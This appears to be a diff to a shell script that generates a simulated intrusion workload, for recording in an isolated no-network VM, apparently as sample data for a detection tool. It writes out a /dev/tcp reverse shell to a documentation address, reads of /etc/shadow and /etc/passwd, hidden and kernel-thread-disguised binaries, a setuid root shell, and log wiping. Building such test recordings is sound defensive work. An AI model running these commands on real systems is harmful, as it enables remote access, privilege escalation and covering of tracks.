@@ -1,7 +1,7 @@
 #!/bin/sh
 # The workload of sample.ocellus: an ordinary morning, and an intruder. It was recorded in a small
-# virtual machine (busybox in an initramfs, no network), so that the recording holds nothing of
-# anybody's host. Addresses are those of documentation (RFC 5737).
+# virtual machine (bash and busybox in an initramfs, no network), so that the recording holds
+# nothing of anybody's host. Addresses are those of documentation (RFC 5737).
 set -u
 mkdir -p /srv/www /usr/sbin /var/log /tmp /dev/shm /root /home/dev /etc/ssh
 
@@ -21,22 +21,24 @@ sh -c 'exit 3'
 sh -c 'kill -9 $$'
 
 # A web server that is talked into a shell.
-cp /bin/busybox /usr/sbin/nginx
+cp /bin/bash /usr/sbin/nginx
 cat > /srv/www/cgi.sh <<'EOF'
 sh -c 'id; cat /etc/passwd' > /dev/null
-sh -c 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1' 2> /dev/null
+sh -c 'timeout 1 bash -i >& /dev/tcp/192.0.2.10/4444 0>&1' 2> /dev/null
+true
 EOF
-/usr/sbin/nginx sh /srv/www/cgi.sh
+/usr/sbin/nginx /srv/www/cgi.sh
 
 # The intruder looks for secrets, brings a tool along and hides it.
 cat /etc/shadow > /dev/null 2>&1
-cp /bin/busybox /dev/shm/.x
-/dev/shm/.x true
-cp /bin/busybox /tmp/kworker
-sh -c 'exec -a "[kworker/0:1]" /tmp/kworker sleep 0.2' 2> /dev/null
+cp /bin/bash /dev/shm/.x
+/dev/shm/.x -c 'sleep 0.2; true'
+cp /bin/bash /tmp/kworker
+(exec -a '[kworker/0:1]' /tmp/kworker -c 'sleep 0.2; true')
 sh -c 'echo aWQK | base64 -d | sh' > /dev/null
-cp /bin/busybox /tmp/rootsh && chmod 4755 /tmp/rootsh
-su nobody -s /bin/sh -c '/tmp/rootsh id' > /dev/null 2>&1
+cp /bin/bash /tmp/rootsh && chmod 4755 /tmp/rootsh
+su nobody -s /bin/sh -c '/tmp/rootsh -p -c id' > /dev/null 2>&1
+sleep 1
 
 # And wipes the traces.
 echo "accepted password for root" > /var/log/auth.log
